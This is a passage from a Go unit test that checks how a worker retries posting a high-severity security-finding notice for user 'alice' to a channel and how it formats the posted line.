	m := message("n1", "t1", notice.Alert)
	l := ledger.New(&w.store)
	entry := ledger.Entry{ID: m.Finding, Subject: "alice", At: m.Time}
	if err := l.Update(t.Context(), &entry); err != nil {
		t.Fatal(err)
	}
	w.put(t, body(t, m))
	if a := w.turn(t); a.Posted != 0 || len(a.Failures) != 1 || a.Fault() != nil {
		t.Errorf("%+v, %v", a, a.Fault())
	}
	w.clock.Sleep(t.Context(), 2*time.Second)
	w.record(t, m)
	if a := w.turn(t); a.Posted != 1 {
		t.Errorf("%+v", a)
	}
	if diff := cmp.Diff([]string{"🟠 [HIGH] T n1 - alice (1111…3333). Found."}, w.channel.lines()); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}
